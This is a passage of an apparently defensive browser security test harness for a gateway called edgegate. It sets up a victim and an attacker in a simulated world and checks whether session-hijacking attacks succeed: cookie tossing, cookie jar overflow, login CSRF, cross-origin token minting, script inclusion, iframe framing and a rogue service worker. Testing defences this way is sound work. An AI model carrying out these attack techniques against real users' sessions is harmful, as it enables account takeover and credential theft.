    v2Recorder: w.recorder.map((r) => ({ at: r.at, method: r.method, url: r.url, upgrade: !!r.upgrade, host: r.headers.host, origin: r.headers.origin, cookie: r.headers.cookie, 'x-edgegate-user': r.headers['x-edgegate-user'], 'sec-fetch-site': r.headers['sec-fetch-site'], 'sec-fetch-dest': r.headers['sec-fetch-dest'] })),
    gatewayAccessLog: w.gateway,
    attackerObtained: got,
    attackerReplays: replays,
    ...extra,
  };
  checks.push(c);
  const why = [...broken, ...findings, ...deviations];
  say(`${verdict}${why.length ? `: ${why.join(' | ')}` : ''}`);
  return c;
}

function appOriginBeacons(w) {
  return w.collector.filter((b) => APP_ORIGINS.includes(b.beacon.origin));
}

// The common judgement of a link the victim must not be able to follow into hostile content.
async function judgeRefusedLink(mark, { victim, shown, expectStatus, expectError, hostileOrigins, description, listed = true }) {
  await sleep(QUIET_MS);
  const w = windowOf(mark);
  const findings = [];
  const deviations = [];
  const rendered = w.collector.filter((b) => hostileOrigins.includes(b.beacon.origin));
  if (rendered.length) {
    findings.push(`hostile content ran on ${[...new Set(rendered.map((b) => b.beacon.origin))].join(', ')}`);
  }
  if (w.hostile.length) {
    findings.push(`the hostile upstream received ${w.hostile.length} request(s) from the victim's browser (${w.hostile.map((r) => r.url).join(', ')})`);
  }
  const cookies = await jar(victim.context);
  const ide = cookies.filter((c) => c.name === 'edgegate_ide');
  if (ide.length) findings.push(`an edgegate_ide cookie was set in the victim's browser (path ${ide.map((c) => c.path).join(', ')})`);
  const statuses = [].concat(expectStatus);
  if (!findings.length) {
    if (!statuses.includes(shown.status)) deviations.push(`status ${shown.status ?? shown.error}, expected ${statuses.join(' or ')}`);
    // A navigation gets edgegate's HTML page (issue #18), a fetch its JSON: same code either way.
    const code = shown.json ? shown.json.error : shown.page ? shown.page.code : undefined;
    if (expectError && code !== expectError) {
      deviations.push(`error ${JSON.stringify(code)}, expected ${JSON.stringify(expectError)}`);
    }
  }
  return record(mark, {
    kind: 'attack', listed, description, page: victim.page, shown,
    expected: `${statuses.join(' or ')}${expectError ? ` ${expectError}` : ''} from edgegate; nothing from the hostile upstream on ${hostileOrigins.join(' or ')}; no edgegate_ide cookie`,
    findings, deviations, extra: { victimCookies: cookies },
  });
}

// With U's session tossed into the victim's jar: a bootstrap the app's own page starts (the
// one kind edgegate takes) must still be refused, for the two session values.
async function tossedBootstrapFromApp(name, victim, description) {
  const t = await mint('ide', A, SID_U);
  const mark = begin(name);
  const shown = await visitFromApp(victim.page, t.url);
  return judgeRefusedLink(mark, {
    victim, shown, expectStatus: 401, expectError: 'ambiguous_credentials', hostileOrigins: APP_ORIGINS, description,
  });
}

async function waitForDone(origin, mark, ms = PAGE_DONE_MS) {
  return waitFor(() => collectorLog.slice(mark.collector)
    .some((b) => b.beacon.kind === 'done' && b.beacon.origin === origin && b.beacon.top), ms);
}

async function run() {
  const hostilePort = await listen(hostile);
  const recorderPort = await listen(recorder);
  const collectorPort = await listen(collector);
  COLLECTOR = `http://collector.edgegate-evil.test:${collectorPort}`;
  say(`gateway ${appOrigin}; hostile upstream :${hostilePort}; V2 recorder :${recorderPort}; collector ${COLLECTOR}`);
  writeWorld(hostilePort, recorderPort);
  // The gateway answers token minting for U (the real way) before any browser starts.
  await mint('ide', A, SID_U);

  const victim = await launch('victim');
  const attacker = await launch('attacker');
  try {
    await resetVictim(victim);
    await attacker.context.addCookies([
      { name: 'session', value: SID_U, domain: `.${BASE}`, path: '/', httpOnly: true, secure: false, sameSite: 'Lax' },
    ]);
    await checksBody(victim, attacker);
  } finally {
    await victim.context.close().catch(() => {});
    await attacker.context.close().catch(() => {});
    fs.rmSync(victim.profile, { recursive: true, force: true });
    fs.rmSync(attacker.profile, { recursive: true, force: true });
  }
}

async function checksBody(victim, attacker) {
  const a = A.toLowerCase();
  const v2Origin = wsOrigin(V2);
  const v1Origin = wsOrigin(V1);

  // Positive control: the victim's session opens V2, and edgegate strips the session cookie.
  {
    const mark = begin('control-v2-session');
    const shown = await visit(victim.page, `${v2Origin}/hello`);
    const w = windowOf(mark);
    const broken = [];
    const hello = w.recorder.filter((r) => r.url === '/hello');
    if (shown.status !== 200) broken.push(`V2 answered ${shown.status ?? shown.error}, expected 200`);
    if (!hello.length) broken.push('the V2 recorder saw no GET /hello');
    if (hello.some((r) => (r.headers.cookie || '').includes(SID_V))) broken.push('the session cookie reached V2\'s upstream');
    if (hello.length && !hello.every((r) => r.headers['x-edgegate-user'] === V)) broken.push(`x-edgegate-user ${hello.map((r) => r.headers['x-edgegate-user']).join(',')}, expected ${V}`);
    await record(mark, { kind: 'control', description: 'the victim\'s session opens its own V2 through edgegate; the session cookie is not forwarded', expected: '200 from the V2 recorder, no session cookie upstream', shown, page: victim.page, broken });
  }

  // Positive control: U's own bootstrap, in U's own browser, opens A's IDE (hostile, U's own).
  {
    const mark = begin('control-u-own-ide');
    const t = await mint('ide', A, SID_U);
    const shown = await visitFromApp(attacker.page, t.url);
    await waitForDone(appOrigin, mark);
    const w = windowOf(mark);
    const broken = [];
    const u = new URL(attacker.page.url());
    if (u.origin !== appOrigin || !u.pathname.startsWith(`/__ide/${A}/`)) broken.push(`landed on ${attacker.page.url()}`);
    if (shown.status !== 200) broken.push(`status ${shown.status ?? shown.error}`);
    const cookies = await jar(attacker.context);
    if (!cookies.some((c) => c.name === 'edgegate_ide')) broken.push('no edgegate_ide cookie in U\'s browser');
    if (!w.hostile.length) broken.push('the hostile upstream of A saw no request');
    if (!appOriginBeacons(w).some((b) => b.beacon.kind === 'hello')) broken.push('no beacon from A\'s content on the app origin: the collector or the hostile page does not work');
    await record(mark, { kind: 'control', description: 'U bootstraps into U\'s own IDE of A in U\'s own browser; A\'s content renders there (U\'s own, fine)', expected: '302 → /__ide/{A}/ 200 with the ide cookie; the collector hears from the app origin', shown, page: attacker.page, broken, extra: { attackerCookies: cookies } });
    await attacker.page.goto('about:blank', { timeout: NAV_MS }).catch(() => {});
  }

  // 1. The tunnel with U's dev-ide token in the URL, opened by the victim.
  const tunnelVariants = [
    ['1-tunnel-url-token', (tok) => `${appOrigin}/__ide/${A}/?token=${tok}`, 'app/__ide/{A}/?token='],
    ['1-tunnel-pct-token', (tok) => `${appOrigin}/__ide/${A}/?%74oken=${tok}`, 'app/__ide/{A}/?%74oken='],
    ['1-tunnel-lowercase-id', (tok) => `${appOrigin}/__ide/${a}/?token=${tok}`, 'app/__ide/{a}/?token= (id in lower case)'],
    ['1-tunnel-base-host', (tok) => `${baseOrigin}/__ide/${A}/?token=${tok}`, '{base}/__ide/{A}/?token= (the bare base host)'],
  ];
  for (const [name, link, what] of tunnelVariants) {
    await resetVictim(victim);
    const mark = begin(name);
    const t = await mint('ide', A, SID_U);
    const shown = await visit(victim.page, link(t.token));
    await judgeRefusedLink(mark, {
      // The bare base host may not carry the tunnel at all (404 is a refusal too).
      victim, shown, expectStatus: name === '1-tunnel-base-host' ? [401, 404] : 401, hostileOrigins: APP_ORIGINS,
      description: `the victim opens ${what} with U's fresh dev-ide token for A (a crafted link)`,
    });
  }

  // 2. U's bootstrap link opened by the victim (login CSRF).
  {
    await resetVictim(victim);
    const mark = begin('2-bootstrap-login-csrf');
    const t = await mint('ide', A, SID_U);
    const shown = await visit(victim.page, t.url);
    await judgeRefusedLink(mark, {
      victim, shown, expectStatus: 403, hostileOrigins: APP_ORIGINS,
      description: 'the victim opens U\'s bootstrap link app/api/dev/{A}/ide?token= (U has no session in this browser)',
    });
  }

  // 3. The agent path with U's terminal token, as a plain GET.
  {
    await resetVictim(victim);
    const mark = begin('3-agent-get-url-token');
    const t = await mint('terminal', A, SID_U);
    const shown = await visit(victim.page, `${wsOrigin(A)}/agent/ws?token=${t.token}`);
    await judgeRefusedLink(mark, {
      // 401 (a token is no credential on a plain GET) or 403 (the victim's own session is
      // not A's owner's): both refuse; what matters is that nothing of A's renders.
      victim, shown, expectStatus: [401, 403], hostileOrigins: [wsOrigin(A), ...APP_ORIGINS],
      description: 'the victim opens ws-{a}/agent/ws?token=<U\'s terminal token> as a page (no upgrade)',
    });
  }

  // 4. The victim opens its own compromised V1; V1's page attacks from there.
  {
    await resetVictim(victim);
    const mark = begin('control-v1-renders');
    const shown = await visit(victim.page, `${v1Origin}/?mode=probe`);
    const done = await waitForDone(v1Origin, mark);
    await sleep(ACCESS_LOG_FLUSH_MS);
    const w = windowOf(mark);
    const broken = [];
    if (shown.status !== 200) broken.push(`V1 answered ${shown.status ?? shown.error}, expected 200 (the owner's session)`);
    if (!w.collector.some((b) => b.beacon.origin === v1Origin && b.beacon.kind === 'hello')) broken.push('no beacon from V1\'s page');
    if (!done) broken.push('V1\'s page did not finish its attacks in time');
    await record(mark, { kind: 'control', description: 'the victim opens its own V1 (allowed: the owner\'s session); V1\'s hostile page runs its attacks', expected: '200; the hostile page reports to the collector', shown, page: victim.page, broken });
    const b = (kind) => w.collector.find((x) => x.beacon.origin === v1Origin && x.beacon.kind === kind)?.beacon.data;
    const got = obtained(w);

    // 4a
    {
      const sub = { ...mark, name: '4a-mint-v2-tokens' };
      current = sub.name;
      const mintB = b('mint');
      const findings = [];
      const deviations = [];
      const tokens = got.filter((g) => g.what.startsWith('token '));
      if (tokens.length) findings.push(`V1's page read ${tokens.map((g) => g.what).join(', ')}`);
      if (w.gateway) {
        const lines = w.gateway.filter((l) => l.path === `/api/dev/${V2}/ide-token` || l.path === `/api/workspaces/${V2}/terminal-token`);
        if (lines.length < 2) deviations.push(`the gateway log shows ${lines.length} of the 2 mint requests`);
        for (const l of lines) {
          if (l.status === 200) findings.push(`edgegate minted a token for a cross-origin request from V1 (${l.path}: 200; CORS hid it from the page)`);
          else if (l.status !== 403) deviations.push(`${l.path}: ${l.status}, expected 403`);
        }
      } else {
        deviations.push('no --gateway-log: the 403 could not be checked');
      }
      checks.push(await recordSub(sub, {
        description: 'V1\'s page POSTs app/api/dev/{V2}/ide-token and /api/workspaces/{V2}/terminal-token with credentials',
        expected: 'no token reaches the page; edgegate answers 403 (Origin ws-V1)',
        findings, deviations, extra: { pageSaw: mintB, gatewayAccessLog: w.gateway && w.gateway.filter((l) => l.path.includes(V2)) },
      }));
    }
    // 4b
    {
      const sub = { ...mark, name: '4b-websocket-v2' };
      current = sub.name;
      const wsB = b('websocket');
      const findings = [];
      const deviations = [];
      if (wsB && wsB.opened) findings.push('the WebSocket to V2\'s agent opened');
      const ups = w.recorder.filter((r) => r.upgrade);
      if (ups.length) findings.push(`the V2 recorder received ${ups.length} upgrade(s) (origin ${ups.map((r) => r.headers.origin).join(', ')})`);
      if (!wsB) deviations.push('the page never reported its WebSocket attempt');
      checks.push(await recordSub(sub, {
        description: 'V1\'s page opens new WebSocket(ws://ws-{v2}/agent/ws) with the victim\'s cookie',
        expected: 'the WebSocket does not open; the V2 recorder sees no upgrade', findings, deviations, extra: { pageSaw: wsB },
      }));
    }
    // 4c
    {
      const sub = { ...mark, name: '4c-cors-read-v2' };
      current = sub.name;
      const corsB = b('cors');
      const findings = [];
      const deviations = [];
      if (corsB && typeof corsB.body === 'string' && corsB.body.includes(V2_SECRET)) findings.push('V1\'s page read V2\'s answer');
      const fromV1 = w.recorder.filter((r) => r.headers.origin === v1Origin);
      if (fromV1.length) findings.push(`the V2 recorder received ${fromV1.length} request(s) with Origin ${v1Origin} (${fromV1.map((r) => r.url).join(', ')})`);
      if (!corsB) deviations.push('the page never reported its fetch');
      checks.push(await recordSub(sub, {
        description: 'V1\'s page fetch(ws-{v2}/secret, {credentials: "include"}) (V2\'s upstream reflects the Origin with credentials)',
        expected: 'not readable; the V2 recorder receives nothing with Origin ws-V1 (edgegate 403 first)', findings, deviations, extra: { pageSaw: corsB },
      }));
    }
    // 4d
    {
      const sub = { ...mark, name: '4d-cookie-read' };
      current = sub.name;
      const hello = b('hello');
      const findings = [];
      const deviations = [];
      const seen = hello ? hello.cookie : null;
      if (seen && seen.includes(SID_V)) findings.push('document.cookie shows the victim\'s session');
      if (seen && /edgegate_ide/.test(seen)) findings.push('document.cookie shows an ide cookie');
      if (seen && seen.includes(APP_SECRET)) findings.push('document.cookie shows the victim\'s app cookie');
      // Whatever a hostile upstream received, in any check so far.
      const leaked = hostileLog.filter((r) => /edgegate_ide|session=/.test(r.headers.cookie || '') || (r.headers.cookie || '').includes(SID_V));
      if (leaked.length) findings.push(`a credential cookie reached a hostile upstream (${leaked.map((r) => `${r.check} ${r.url}`).join(', ')})`);
      if (!hello) deviations.push('the page never reported document.cookie');
      checks.push(await recordSub(sub, {
        description: 'V1\'s page reads document.cookie; and no credential cookie ever reaches a hostile upstream',
        expected: 'neither the session id nor an edgegate_ide value is visible', findings, deviations,
        extra: { pageSaw: seen, hostileUpstreamCookies: [...new Set(hostileLog.map((r) => r.headers.cookie).filter(Boolean))] },
      }));
    }
    // 4h (beyond the brief)
    {
      const sub = { ...mark, name: '4h-script-include-v2' };
      current = sub.name;
      const x = b('xssi');
      const findings = [];
      const deviations = [];
      if (x && x.secret) findings.push(`V1's page read V2's script through <script src> with the victim's session: ${x.secret}`);
      const inc = w.recorder.filter((r) => r.url === '/app.js');
      if (!x) deviations.push('the page never reported its script inclusion');
      checks.push(await recordSub(sub, {
        listed: false,
        description: 'V1\'s page includes <script src=ws-{v2}/app.js>: a no-cors GET without Origin carries the victim\'s session to V2 (cross-site script inclusion)',
        expected: 'V2\'s content never runs in V1\'s page (edgegate refuses cross-origin subresource requests authenticated by cookie, e.g. by Sec-Fetch-Site/-Mode)',
        findings, deviations,
        extra: { pageSaw: x, v2RecorderSaw: inc.map((r) => ({ url: r.url, origin: r.headers.origin || null, 'sec-fetch-site': r.headers['sec-fetch-site'], 'sec-fetch-mode': r.headers['sec-fetch-mode'], 'sec-fetch-dest': r.headers['sec-fetch-dest'], 'x-edgegate-user': r.headers['x-edgegate-user'] })) },
      }));
    }
  }

  // 4e. Cookie tossing from V1, then U's bootstrap link.
  {
    await resetVictim(victim);
    const mark = begin('4e-cookie-toss-bootstrap');
    const tossShown = await visit(victim.page, `${v1Origin}/?mode=toss`);
    await waitForDone(v1Origin, mark);
    const afterToss = await jar(victim.context);
    const tossed = afterToss.filter((c) => c.name === 'session' && c.value === SID_U);
    const broken = [];
    if (tossShown.status !== 200) broken.push(`V1 answered ${tossShown.status ?? tossShown.error}`);
    // Without a tossed cookie in the jar there is nothing to test.
    if (!tossed.length) broken.push(`the toss did not land: no session=SID_U cookie in the jar (${afterToss.map((c) => `${c.name}@${c.path}`).join(', ')})`);
    const t = await mint('ide', A, SID_U);
    const mark2 = { ...mark, collector: collectorLog.length, hostile: hostileLog.length, recorder: recorderLog.length, gwlog: gatewayLogSize() };
    const shown = await visit(victim.page, t.url);
    if (broken.length) {
      await record(mark, { kind: 'attack', description: 'cookie toss', expected: '-', shown, page: victim.page, broken });
    } else {
      // A link starts no bootstrap: 403 before the cookies are even read.
      const c = await judgeRefusedLink(mark2, {
        victim, shown, expectStatus: 403, expectError: 'forbidden', hostileOrigins: APP_ORIGINS,
        description: 'V1\'s page tosses session=SID_U on .{base} (paths /, /api/, /__ide/); the victim then opens U\'s bootstrap link for A',
      });
      c.toss = { page: tossShown, jarAfterToss: afterToss };
      // Even a navigation the app's own page starts (as if the attacker had one): the two
      // session values are ambiguous, 401.
      await tossedBootstrapFromApp('4e-cookie-toss-bootstrap-same-origin', victim,
        'with session=SID_U tossed as above, the app\'s own page (same-origin) navigates to U\'s bootstrap link for A');
    }

    // Positive control: without the tossed cookie the victim's V2 works again.
    await resetVictim(victim);
    const m3 = begin('control-v2-after-toss');
    const shown3 = await visit(victim.page, `${v2Origin}/hello`);
    const w3 = windowOf(m3);
    const broken3 = [];
    if (shown3.status !== 200) broken3.push(`V2 answered ${shown3.status ?? shown3.error}`);
    if (!w3.recorder.some((r) => r.url === '/hello')) broken3.push('the V2 recorder saw no GET /hello');
    await record(m3, { kind: 'control', description: 'the tossed cookie cleared, the victim\'s own V2 works through edgegate', expected: '200 from the recorder', shown: shown3, page: victim.page, broken: broken3 });
  }

  // 4e, again: five tossed values, all U's, ahead of the victim's own.
  {
    await resetVictim(victim);
    const mark = begin('4e-cookie-toss-many-paths');
    const tossShown = await visit(victim.page, `${v1Origin}/?mode=tossmany`);
    await waitForDone(v1Origin, mark);
    const afterToss = await jar(victim.context);
    const tossed = afterToss.filter((c) => c.name === 'session' && c.value === SID_U);
    const broken = [];
    if (tossShown.status !== 200) broken.push(`V1 answered ${tossShown.status ?? tossShown.error}`);
    if (tossed.length < 5) broken.push(`the toss did not land: ${tossed.length} session=SID_U cookies in the jar, 5 wanted`);
    const t = await mint('ide', A, SID_U);
    const mark2 = { ...mark, collector: collectorLog.length, hostile: hostileLog.length, recorder: recorderLog.length, gwlog: gatewayLogSize() };
    const shown = await visit(victim.page, t.url);
    if (broken.length) {
      await record(mark, { kind: 'attack', description: 'cookie toss, five paths', expected: '-', shown, page: victim.page, broken });
    } else {
      const c = await judgeRefusedLink(mark2, {
        victim, shown, expectStatus: 403, expectError: 'forbidden', hostileOrigins: APP_ORIGINS,
        description: 'V1\'s page tosses session=SID_U on five paths that the bootstrap URL matches (all sent before the victim\'s own session, the 6th value); the victim then opens U\'s bootstrap link for A',
      });
      c.toss = { page: tossShown, jarAfterToss: afterToss };
      await tossedBootstrapFromApp('4e-cookie-toss-many-paths-same-origin', victim,
        'with session=SID_U tossed on five paths, the app\'s own page (same-origin) navigates to U\'s bootstrap link for A');
    }
  }

  // 4f. V1 frames the tunnel with U's token.
  {
    await resetVictim(victim);
    const mark = begin('4f-iframe-tunnel');
    const t = await mint('ide', A, SID_U);
    const frame = `${appOrigin}/__ide/${A}/?token=${t.token}`;
    const shown = await visit(victim.page, `${v1Origin}/?mode=iframe&frame=${encodeURIComponent(frame)}`);
    const done = await waitForDone(v1Origin, mark);
    const w = windowOf(mark);
    const broken = [];
    if (!w.collector.some((b) => b.beacon.origin === v1Origin && b.beacon.kind === 'iframe') || !done) broken.push('V1\'s page did not report its iframe');
    const findings = [];
    const onApp = appOriginBeacons(w);
    if (onApp.length) findings.push(`hostile content ran on the app origin inside V1's iframe (${[...new Set(onApp.map((b) => b.beacon.kind))].join(', ')})`);
    const tunnelReqs = w.hostile.filter((r) => r.headers.host === `${appHost}:${PORT}`);
    if (tunnelReqs.length) findings.push(`the hostile upstream served the tunnel to the victim's browser ${tunnelReqs.length} time(s)`);
    const ide = (await jar(victim.context)).filter((c) => c.name === 'edgegate_ide');
    if (ide.length) findings.push('an edgegate_ide cookie was set in the victim\'s browser');
    await record(mark, {
      kind: 'attack', description: 'V1\'s page frames app/__ide/{A}/?token=<U\'s dev-ide token>', expected: 'no hostile content on the app origin', shown, page: victim.page, broken, findings,
      extra: { framedUrl: frame.replace(t.token, '<token>') },
    });
  }

  // 4g (beyond the brief). Cookie tossing by a response header, then U's bootstrap link.
  {
    await resetVictim(victim);
    const mark = begin('4g-set-cookie-toss');
    const tossShown = await visit(victim.page, `${v1Origin}/?mode=headertoss`);
    const rendered = await waitForDone(v1Origin, mark);
    const afterToss = await jar(victim.context);
    const findings = [];
    const broken = rendered ? [] : ['V1\'s page did not run'];
    const sessions = afterToss.filter((c) => c.name === 'session');
    if (!sessions.some((c) => c.value === SID_V)) findings.push(`V1's Set-Cookie replaced the victim's HttpOnly session (the victim is now signed in as ${U} on the app)`);
    else if (sessions.some((c) => c.value === SID_U)) findings.push('V1\'s Set-Cookie added a session cookie on the app\'s domain');
    const t = await mint('ide', A, SID_U);
    const mark2 = { ...mark, collector: collectorLog.length, hostile: hostileLog.length, recorder: recorderLog.length, gwlog: gatewayLogSize() };
    const shown = await visit(victim.page, t.url);
    await sleep(QUIET_MS);
    const w2 = windowOf(mark2);
    const onApp = appOriginBeacons(w2);
    if (onApp.length) findings.push('then U\'s bootstrap link signed the victim\'s browser into A: hostile content ran on the app origin');
    const ide = (await jar(victim.context)).filter((c) => c.name === 'edgegate_ide');
    if (ide.length) findings.push('an edgegate_ide cookie for A was set in the victim\'s browser');
    await record(mark, {
      kind: 'attack', listed: false,
      description: 'V1\'s response carries Set-Cookie: session=SID_U; Domain={base}; Path=/; HttpOnly (a server may replace an HttpOnly cookie); the victim then opens U\'s bootstrap link',
      expected: 'the victim\'s session cookie is unchanged (edgegate does not pass a workspace\'s Set-Cookie for the app\'s domain or its credential cookies); the bootstrap is refused',
      shown, page: victim.page, findings, broken, extra: { toss: { page: tossShown, jarAfterToss: afterToss } },
    });
  }

  // 4i (beyond the brief). Cookie jar overflow evicts the HttpOnly session; then U's session.
  {
    await resetVictim(victim);
    const mark = begin('4i-cookie-jar-overflow');
    const tossShown = await visit(victim.page, `${v1Origin}/?mode=overflow`);
    const rendered = await waitForDone(v1Origin, mark);
    const afterToss = await jar(victim.context);
    const sessions = afterToss.filter((c) => c.name === 'session');
    const findings = [];
    const broken = rendered ? [] : ['V1\'s page did not run'];
    const evicted = !sessions.some((c) => c.value === SID_V);
    if (evicted && sessions.some((c) => c.value === SID_U)) findings.push(`V1's page evicted the victim's HttpOnly session and put ${U}'s in its place`);
    const t = await mint('ide', A, SID_U);
    const mark2 = { ...mark, collector: collectorLog.length, hostile: hostileLog.length, recorder: recorderLog.length, gwlog: gatewayLogSize() };
    const shown = await visit(victim.page, t.url);
    await sleep(QUIET_MS);
    const w2 = windowOf(mark2);
    if (appOriginBeacons(w2).length) findings.push('then U\'s bootstrap link signed the victim\'s browser into A: hostile content ran on the app origin');
    if ((await jar(victim.context)).some((c) => c.name === 'edgegate_ide')) findings.push('an edgegate_ide cookie for A was set in the victim\'s browser');
    await record(mark, {
      kind: 'attack', listed: false,
      description: 'V1\'s page overflows the .{base} cookie jar (Chromium evicts the oldest cookies, HttpOnly or not), sets session=SID_U; the victim then opens U\'s bootstrap link',
      expected: 'the bootstrap does not sign the victim\'s browser into A (only a content_domain of its own keeps workspaces from writing the app\'s cookies)',
      shown, page: victim.page, findings, broken, extra: { toss: { page: tossShown, jarAfterToss: afterToss.filter((c) => !c.name.startsWith('junk')), junkLeft: afterToss.filter((c) => c.name.startsWith('junk')).length } },
    });
  }

  // 4j (informational). The victim's own IDE of V1, path shape: V1's content on the app origin.
  {
    await resetVictim(victim);
    const mark = begin('4j-own-ide-on-app-origin');
    const t = await mint('ide', V1, SID_V);
    const shown = await visitFromApp(victim.page, t.url);
    await waitForDone(appOrigin, mark, 10_000);
    const w = windowOf(mark);
    const findings = [];
    if (appOriginBeacons(w).length) findings.push('V1\'s content ran on the app origin with the victim\'s authority');
    await record(mark, {
      kind: 'attack', listed: false,
      description: 'the victim opens its own IDE of V1 (bootstrap, path shape): V1\'s content runs on the app origin; what can it take?',
      expected: 'informational: the path shape gives a workspace the app origin (SPEC §8 content_domain is the topology that does not)',
      shown, page: victim.page, findings,
    });
  }

  // 4k (beyond the brief). The victim's own V1 IDE registers a service worker for the whole
  // app origin; after the tunnel and the session are gone it still serves the app's pages.
  {
    const mark = begin('4k-service-worker-app-origin');
    const findings = [];
    const hadIde = (await jar(victim.context)).some((c) => c.name === 'edgegate_ide');
    const shown = await visit(victim.page, `${appOrigin}/__ide/${V1}/?mode=sw`);
    await waitForDone(appOrigin, mark, 10_000);
    const sw = collectorLog.slice(mark.collector).find((b) => b.beacon.kind === 'sw')?.beacon.data;
    if (sw && sw.registered) findings.push(`V1's page registered a service worker with scope ${sw.scope}`);
    // The victim's own IDE of V1 (4j's bootstrap) must have let the page run at all.
    const broken = sw ? [] : [`V1's page did not run on the app origin (ide cookie ${hadIde ? 'present' : 'absent'}; status ${shown.status ?? shown.error})`];
    // Signed out (every cookie gone), the victim opens the app.
    await resetVictim(victim);
    await victim.context.clearCookies();
    // What the victim's own IDE sent its own upstream is 4j's; from here on it is this check's.
    const mark2 = { ...mark, collector: collectorLog.length, hostile: hostileLog.length, recorder: recorderLog.length };
    const after = await visit(victim.page, `${appOrigin}/account/settings`);
    await sleep(1000);
    const swPage = collectorLog.slice(mark2.collector).filter((b) => b.beacon.mode === 'swpage' && APP_ORIGINS.includes(b.beacon.origin));
    if (swPage.length) findings.push(`signed out, the victim opened ${appOrigin}/account/settings and V1's service worker served it (V1's content on the app origin, outside the tunnel, with no workspace credential)`);
    // Leave no worker behind for anything that runs after this.
    try {
      const cdp = await victim.context.newCDPSession(victim.page);
      await bounded(cdp.send('Storage.clearDataForOrigin', { origin: appOrigin, storageTypes: 'all' }), 5000, null);
      await cdp.detach().catch(() => {});
    } catch (e) {
      log(`could not clear the app origin's storage: ${e.message}`);
    }
    await record(mark, {
      kind: 'attack', listed: false,
      description: 'the victim\'s own IDE of V1 (path shape, V\'s ide cookie) registers /__ide/{V1}/sw.js with scope / (the upstream sends Service-Worker-Allowed: /); then, signed out, the victim opens an app page',
      expected: 'no service worker with a scope outside /__ide/{V1}/ (edgegate drops Service-Worker-Allowed from tunnel responses, or refuses Service-Worker: script requests there); the app page comes from edgegate/the app',
      shown: { registration: shown, appPageAfterwards: after }, page: victim.page, findings,
      broken, obtainedFrom: mark2, extra: { hadIdeCookie: hadIde, pageSaw: sw },
    });
  }

  // 5. Over the whole run: no credential cookie of edgegate's ever reached a workspace upstream.
  {
    const mark = begin('5-credentials-never-upstream');
    const findings = [];
    const cred = (r) => /(^|;\s*)(session|edgegate_ide)=/.test(r.headers.cookie || '')
      || (r.headers.cookie || '').includes(SID_V) || (r.headers.cookie || '').includes(SID_U);
    const h = hostileLog.filter(cred);
    const r = recorderLog.filter(cred);
    if (h.length) findings.push(`a hostile upstream received edgegate's credential cookies (${h.map((x) => `${x.check} ${x.url}`).join(', ')})`);
    if (r.length) findings.push(`the V2 upstream received edgegate's credential cookies (${r.map((x) => `${x.check} ${x.url}`).join(', ')})`);
    // ?token= (in any spelling of its name) is kept only on the agent path (forward_token).
    const urlToken = (url) => {
      const u = new URL(url, 'http://x.invalid');
      if (u.pathname === '/agent/ws') return false;
      return (u.search.slice(1).split('&')).some((kv) => {
        try { return decodeURIComponent(kv.split('=')[0]).toLowerCase() === 'token'; } catch (_) { return false; }
      });
    };
    const tokenUp = hostileLog.filter((x) => urlToken(x.url) || /bearer/i.test(x.headers.authorization || ''));
    if (tokenUp.length) findings.push(`a hostile upstream received a token in its URL or Authorization (${tokenUp.map((x) => `${x.check} ${x.url.replace(/token=[^&]*/, 'token=…')}`).join(', ')})`);
    await record(mark, {
      kind: 'attack', description: 'over the whole run, the session and ide cookies (and tokens outside the agent WebSocket) never reach a workspace upstream (SPEC §5)',
      expected: 'no upstream request carries them', shown: null, page: null, findings,
      extra: { hostileUpstreamCookieHeaders: [...new Set(hostileLog.map((x) => x.headers.cookie).filter(Boolean))], v2RecorderCookieHeaders: [...new Set(recorderLog.map((x) => x.headers.cookie).filter(Boolean))] },
    });
  }
}

// A sub-check judged from a visit already made (4a–4d, 4h share control-v1-renders' visit).
async function recordSub(sub, { listed = true, description, expected, findings, deviations, extra }) {
  const w = windowOf(sub);
  const got = obtained(w).filter((g) => findings.length && (
    (sub.name === '4a-mint-v2-tokens' && g.what.startsWith('token '))
    || (sub.name === '4c-cors-read-v2' && g.via.includes('cors'))
    || (sub.name === '4h-script-include-v2' && g.via.includes('xssi'))
    || (sub.name === '4d-cookie-read' && !g.what.startsWith('token ') && !g.what.startsWith('V2 content'))));
  const replays = got.length ? await replay(got) : [];
  const informational = INFORMATIONAL.has(sub.name);
  let verdict;
  if (findings.length) verdict = informational ? 'informational: the page got through' : 'ATTACK SUCCEEDED';
  else if (deviations.length) verdict = informational ? 'informational' : 'attack failed, but not as specified';
  else verdict = 'attack failed';
  const why = [...findings, ...deviations];
  say(`[${sub.name}] ${verdict}${why.length ? `: ${why.join(' | ')}` : ''}`);
  return {
    name: sub.name, kind: 'attack', listed, informational, description, expected, verdict, findings,
    deviations, broken: [], shown: 'see control-v1-renders', screenshot: `${args.label}-control-v1-renders.png`,
    attackerObtained: got, attackerReplays: replays, ...extra,
  };
}

// ---------------------------------------------------------------------------------------------
// Verdict

let exitCode = 2;
async function finish() {
  if (finished) return exitCode;
  finished = true;
  clearTimeout(watchdog);
  const counted = checks.filter((c) => !c.informational);
  const broken = checks.filter((c) => c.broken && c.broken.length);
  const succeeded = counted.filter((c) => c.verdict === 'ATTACK SUCCEEDED');
  const deviated = counted.filter((c) => c.verdict === 'attack failed, but not as specified');
  let verdict;
  if (harnessError || broken.length) {
    exitCode = 2;
    verdict = `HARNESS BROKEN: ${harnessError ? harnessError.message : broken.map((c) => `${c.name}: ${c.broken.join('; ')}`).join(' | ')}`;
  } else if (succeeded.length || deviated.length) {
    exitCode = 1;
    verdict = `${succeeded.length} attack(s) SUCCEEDED${succeeded.length ? ` (${succeeded.map((c) => c.name).join(', ')})` : ''}`
      + `${deviated.length ? `; ${deviated.length} refused but not as specified (${deviated.map((c) => c.name).join(', ')})` : ''}`;
  } else {
    exitCode = 0;
    verdict = 'every attack failed';
  }
  const result = {
    label: args.label, verdict, exitCode,
    world: {
      gateway: appOrigin, attacker: U, victim: V, A, V1, V2, collector: COLLECTOR,
      sessions: { U: SID_U, V: SID_V },
    },
    summary: checks.map((c) => ({ name: c.name, listed: c.listed, informational: c.informational, verdict: c.verdict })),
    checks,
    hostileUpstreamRequests: hostileLog,
    v2RecorderRequests: recorderLog,
    collectorBeacons: collectorLog,
  };
  try {
    fs.writeFileSync(art('-result.json'), JSON.stringify(result, null, 2) + '\n');
    fs.writeFileSync(art('-console.log'), consoleLines.join('\n') + '\n');
  } catch (e) {
    console.error(`${args.label}: cannot write artifacts: ${e.message}`);
    exitCode = 2;
  }
  console.log('');
  for (const c of checks) {
    const tag = c.verdict === 'attack failed' || c.verdict === 'control held' ? 'ok  ' : c.informational ? 'info' : 'FAIL';
